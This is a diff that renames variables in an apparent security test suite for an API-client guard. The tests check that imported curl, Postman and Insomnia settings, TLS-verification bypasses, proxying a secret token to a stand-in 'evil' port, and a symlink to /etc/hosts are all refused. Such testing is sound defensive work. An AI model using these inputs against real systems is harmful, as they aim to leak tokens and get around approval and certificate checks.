@@ -6,13 +6,13 @@ import { openGuard } from '@tandem/core';
 import type { Lab, Outcome } from './lab.js';
 import type { Attack } from './more.js';
 
-const waits = /^CONNECTION_NOT_APPROVED$/;
+const notApprovedCode = /^CONNECTION_NOT_APPROVED$/;
 const deniedCode = /^GUARD_DENIED$/;
-const off = { tls: { verify: false } };
-const none = { ca: [], clientCertificates: [] };
+const insecureSettings = { tls: { verify: false } };
+const noConnections = { ca: [], clientCertificates: [] };
 
 /** The code of the first refusal in a response, which may have any form. */
-const codeIn = (result: unknown): Outcome => {
+const findRefusalCode = (result: unknown): Outcome => {
   const text = JSON.stringify(result);
   return (
     /\b(CONNECTION_NOT_APPROVED|TLS_UNVERIFIED_REFUSED|GUARD_DENIED|SECRET_HOST_REFUSED|TLS_ERROR)\b/.exec(
@@ -21,9 +21,9 @@ const codeIn = (result: unknown): Outcome => {
   );
 };
 
-const secure = (lab: Lab): string => `https://127.0.0.1:${lab.home}/{{TOKEN}}`;
+const getHttpsUrl = (lab: Lab): string => `https://127.0.0.1:${lab.home}/{{TOKEN}}`;
 
-const proxyTo = (lab: Lab) => ({
+const createProxySetting = (lab: Lab) => ({
   mode: 'manual',
   protocol: 'http',
   hostname: '127.0.0.1',
@@ -33,7 +33,7 @@ const proxyTo = (lab: Lab) => ({
 
 const setConnections = async (lab: Lab, connections: object): Promise<void> => {
   await lab.call('folders_get', { id: '' });
-  await lab.call('folders_update', { id: '', connections: { ...none, ...connections } });
+  await lab.call('folders_update', { id: '', connections: { ...noConnections, ...connections } });
 };
 
 /** Imports a document and executes everything in it. */
@@ -41,7 +41,7 @@ const importAndExecute = async (lab: Lab, text: string): Promise<Outcome> => {
   const folder = `Import ${Math.random()}`;
   const answer = await lab.call('imports_apply', { text, folder });
   if ('failed' in answer) return String(answer.failed);
-  return codeIn(await lab.call('runs_execute', { folder }));
+  return findRefusalCode(await lab.call('runs_execute', { folder }));
 };
 
 const postman = (lab: Lab, more: object): string =>
@@ -50,7 +50,7 @@ const postman = (lab: Lab, more: object): string =>
       name: `P${Math.random()}`,
       schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json',
     },
-    item: [{ name: 'One', request: { method: 'GET', url: secure(lab) }, ...more }],
+    item: [{ name: 'One', request: { method: 'GET', url: getHttpsUrl(lab) }, ...more }],
   });
 
 const insomnia = (lab: Lab): string =>
@@ -61,7 +61,7 @@ const insomnia = (lab: Lab): string =>
       { _id: 'wrk_1', _type: 'workspace', name: `I${Math.random()}` },
       {
         ...{ _id: 'req_1', _type: 'request', parentId: 'wrk_1', name: 'One', method: 'GET' },
-        ...{ url: secure(lab), settingValidateCertificates: false },
+        ...{ url: getHttpsUrl(lab), settingValidateCertificates: false },
       },
     ],
   });
@@ -121,14 +121,24 @@ const sendSecretCopy = async (lab: Lab, first: object, copy: string): Promise<Ou
 
 /** Attacks by settings from documents, calls, scripts and files. */
 export const settingAttacks: readonly Attack[] = [
-  ['imported settings', 'curl -k', waits, (lab) => importAndExecute(lab, `curl -k '${secure(lab)}'`)],
+  [
+    'imported settings',
+    'curl -k',
+    notApprovedCode,
+    (lab) => importAndExecute(lab, `curl -k '${getHttpsUrl(lab)}'`),
+  ],
   [
     'imported settings',
     'strictSSL of Postman',
-    waits,
+    notApprovedCode,
     (lab) => importAndExecute(lab, postman(lab, { protocolProfileBehavior: { strictSSL: false } })),
   ],
-  ['imported settings', 'certificates of Insomnia', waits, (lab) => importAndExecute(lab, insomnia(lab))],
+  [
+    'imported settings',
+    'certificates of Insomnia',
+    notApprovedCode,
+    (lab) => importAndExecute(lab, insomnia(lab)),
+  ],
   // The proxy and its files are only listed, not imported. The request then fails, because `home` does not speak TLS.
   [
     'imported settings',
@@ -137,38 +147,44 @@ export const settingAttacks: readonly Attack[] = [
     (lab) =>
       importAndExecute(
         lab,
-        `curl --proxy http://127.0.0.1:${lab.evil} --cacert ca.pem --cert c.pem --key k.pem '${secure(lab)}'`,
+        `curl --proxy http://127.0.0.1:${lab.evil} --cacert ca.pem --cert c.pem --key k.pem '${getHttpsUrl(lab)}'`,
       ),
   ],
   [
     'settings in another call',
     'many executions',
-    waits,
+    notApprovedCode,
     async (lab) => {
       const { id } = await lab.call('rest_create', {
-        ...{ name: `Many ${Math.random()}`, url: secure(lab), settings: off },
+        ...{ name: `Many ${Math.random()}`, url: getHttpsUrl(lab), settings: insecureSettings },
       });
-      return codeIn(await lab.call('rest_execute_many', { ids: [id] }));
+      return findRefusalCode(await lab.call('rest_execute_many', { ids: [id] }));
     },
   ],
   [
     'settings in another call',
     'a run with rows that name the host',
-    waits,
+    notApprovedCode,
     async (lab) => {
       const { id } = await lab.call('rest_create', {
-        ...{ name: `Rows ${Math.random()}`, url: 'https://{{h}}/{{TOKEN}}', settings: off },
+        ...{ name: `Rows ${Math.random()}`, url: 'https://{{h}}/{{TOKEN}}', settings: insecureSettings },
       });
-      return codeIn(await lab.call('runs_execute', { ids: [id], rows: [{ h: `127.0.0.1:${lab.home}` }] }));
+      return findRefusalCode(
+        await lab.call('runs_execute', { ids: [id], rows: [{ h: `127.0.0.1:${lab.home}` }] }),
+      );
     },
   ],
   [
     'settings in another call',
     'a change after a person agreed',
-    waits,
+    notApprovedCode,
     async (lab) => {
       const { id } = await lab.call('rest_create', {
-        ...{ name: `Later ${Math.random()}`, url: `https://127.0.0.2:${lab.evil}/`, settings: off },
+        ...{
+          name: `Later ${Math.random()}`,
+          url: `https://127.0.0.2:${lab.evil}/`,
+          settings: insecureSettings,
+        },
       });
       await lab.call('rest_execute', { id });
       await lab.agree();
@@ -179,9 +195,9 @@ export const settingAttacks: readonly Attack[] = [
   [
     'settings in another call',
     'a copy of what a person agreed to',
-    waits,
+    notApprovedCode,
     async (lab) => {
-      const fields = { url: `https://127.0.0.1:${lab.evil}/`, settings: off };
+      const fields = { url: `https://127.0.0.1:${lab.evil}/`, settings: insecureSettings };
       const name = `Agreed ${Math.random()}`;
       const { id } = await lab.person(lab.application.rest.create({ name, ...fields }));
       const copy = await lab.call('rest_create', { name: `${name} copy`, ...fields });
@@ -192,9 +208,9 @@ export const settingAttacks: readonly Attack[] = [
   [
     'settings in another call',
     'a token through a proxy',
-    waits,
+    notApprovedCode,
     async (lab) => {
-      await setConnections(lab, { proxy: { ...proxyTo(lab), hostname: '127.0.0.3' } });
+      await setConnections(lab, { proxy: { ...createProxySetting(lab), hostname: '127.0.0.3' } });
       return lab.send({
         url: `http://127.0.0.1:${lab.home}/`,
         auth: {
@@ -207,11 +223,11 @@ export const settingAttacks: readonly Attack[] = [
   [
     'settings in another call',
     'a token without verification',
-    waits,
+    notApprovedCode,
     (lab) =>
       lab.send({
         url: `http://127.0.0.1:${lab.home}/`,
-        settings: off,
+        settings: insecureSettings,
         auth: {
           ...{ type: 'oauth2', grant: 'client_credentials', clientId: 'c', clientSecret: '{{TOKEN}}' },
           accessTokenUrl: `https://127.0.0.1:${lab.home}/token`,
@@ -241,7 +257,7 @@ export const settingAttacks: readonly Attack[] = [
       const name = `link-${Math.random()}.pem`;
       await symlink('/etc/hosts', join(lab.folder, name));
       await setConnections(lab, { ca: [name] });
-      return lab.send({ url: secure(lab) });
+      return lab.send({ url: getHttpsUrl(lab) });
     },
   ],
   ...spellings.map(([way, host]): Attack => [
